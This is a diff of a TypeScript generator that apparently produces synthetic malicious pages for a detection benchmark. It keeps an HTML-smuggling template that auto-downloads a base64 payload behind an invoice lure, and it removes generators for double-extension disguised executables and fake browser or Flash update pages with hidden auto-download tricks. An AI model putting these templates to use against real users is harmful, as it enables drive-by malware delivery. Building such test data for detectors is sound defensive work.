@@ -1,6 +1,5 @@
 import type { Family } from '../family.ts'
 import type { Chance } from '../make/chance.ts'
-import type { Made } from '../make/envelope.ts'
 import { badPlace, urlAt } from '../make/hosts/hosts.ts'
 import { kitExtras, wayTo } from '../make/kits/brand-kit.ts'
 import { documentOf, escaped } from '../make/pages/layout.ts'
@@ -18,7 +17,7 @@ const DOCUMENTS: readonly (readonly [Language, string, string])[] = [
   ['ja', '請求書', 'ダウンロードが自動的に開始されます。パスワード：8421'],
 ]
 
-const smuggling: Family = {
+export const htmlSmuggling: Family = {
   id: 'html_smuggling',
   expected: 'dangerous',
   split: 'dev',
@@ -72,78 +71,3 @@ function smuggleCode(bytes: Buffer, file: string, chance: Chance): string {
       `var a=document.createElement("a");a.href="data:application/octet-stream;base64,${base64}";a.download="${file}";document.body.appendChild(a);a.click();`,
   ])()
 }
-
-const UPDATES: readonly (readonly [string, string])[] = [
-  ['Update your browser', 'You are using an outdated version of Chrome. Update now to continue browsing.'],
-  [
-    'Adobe Flash Player update required',
-    'The version of this plugin is out of date. Install the update to view the content.',
-  ],
-  ['Your video player needs a codec', 'Install the codec pack to play this video.'],
-  ['Document viewer required', 'Download the secure viewer to open this document.'],
-]
-const TYPES: Readonly<Record<string, string>> = {
-  exe: 'application/x-msdownload',
-  msi: 'application/x-msi',
-  apk: 'application/vnd.android.package-archive',
-  lnk: 'application/octet-stream',
-  iso: 'application/octet-stream',
-}
-
-/** The answer itself is a program, under a name or a type that says something else; or the page starts its download. */
-const download: Family = {
-  id: 'program_download',
-  expected: 'dangerous',
-  split: 'dev',
-  make(chance) {
-    return chance.maybe(0.4) ? updatePage(chance) : disguised(chance)
-  },
-}
-
-function disguised(chance: Chance): Made {
-  const kind = chance.of(['pe', 'pe', 'pe', 'msi', 'apk', 'lnk', 'iso'] as const)
-  const extension = kind === 'pe' ? chance.of(['exe', 'scr', 'com']) : kind
-  const word = chance.of(['Invoice', 'Payment_Advice', 'Statement', 'CV', 'Quotation', '請求書', 'Rechnung'])
-  const file = chance.of([
-    `${word}_${chance.digits(4)}.pdf.${extension}`,
-    `${word}.docx.${extension}`,
-    `${word}.pdf`,
-    `${word}_${chance.digits(6)}.${extension}`,
-  ])
-  const isLying = !file.includes('.pdf.') && !file.includes('.docx.')
-  const contentType = isLying
-    ? chance.of(['application/pdf', 'text/html', 'image/jpeg', 'text/plain'])
-    : (TYPES[extension] ?? 'application/octet-stream')
-  const headers: readonly (readonly [string, string])[] = chance.maybe(0.8)
-    ? [['content-disposition', `attachment; filename="${Buffer.from(file).toString('latin1')}"`]]
-    : []
-  const body = Buffer.concat([programOf(kind, chance), Buffer.from(chance.base64(2000), 'base64')])
-  const url = urlAt(badPlace(null, chance), encodeURIComponent(file))
-  return { url, body, contentType, headers, way: wayTo(url, chance), isHonest: false }
-}
-
-function updatePage(chance: Chance): Made {
-  const [title, text] = chance.of(UPDATES)
-  const file = `${chance.of(['https://cdn.discordapp.com/attachments/1/2', '.', '/files', `https://${chance.name(3)}.top`])}/${chance.of(['ChromeUpdate', 'setup', 'FlashPlayer', 'Update'])}.${chance.of(['exe', 'msi', 'js', 'zip', 'apk', 'hta'])}`
-  const start = chance.of([
-    `<meta http-equiv="refresh" content="2;url=${file}">`,
-    `<script>setTimeout(function(){location.href="${file}"},1500)</script>`,
-    `<iframe src="${file}" style="display:none"></iframe>`,
-    `<script>window.onload=function(){var a=document.createElement("a");a.href="${file}";a.download="";document.body.append(a);a.click()}</script>`,
-  ])
-  const body = documentOf(
-    {
-      language: 'en',
-      title,
-      heading: title,
-      main: `<p>${text}</p><a class="btn" href="${file}" download>${chance.of(['Update', 'Download', 'Install'])}</a>`,
-      scripts: start + kitExtras(chance),
-      skeletons: ['table', 'bootstrap', 'utility'],
-    },
-    chance,
-  )
-  const url = urlAt(badPlace(null, chance))
-  return { url, body, way: wayTo(url, chance), isHonest: false }
-}
-
-export const FILE_FRAUDS: readonly Family[] = [smuggling, download]
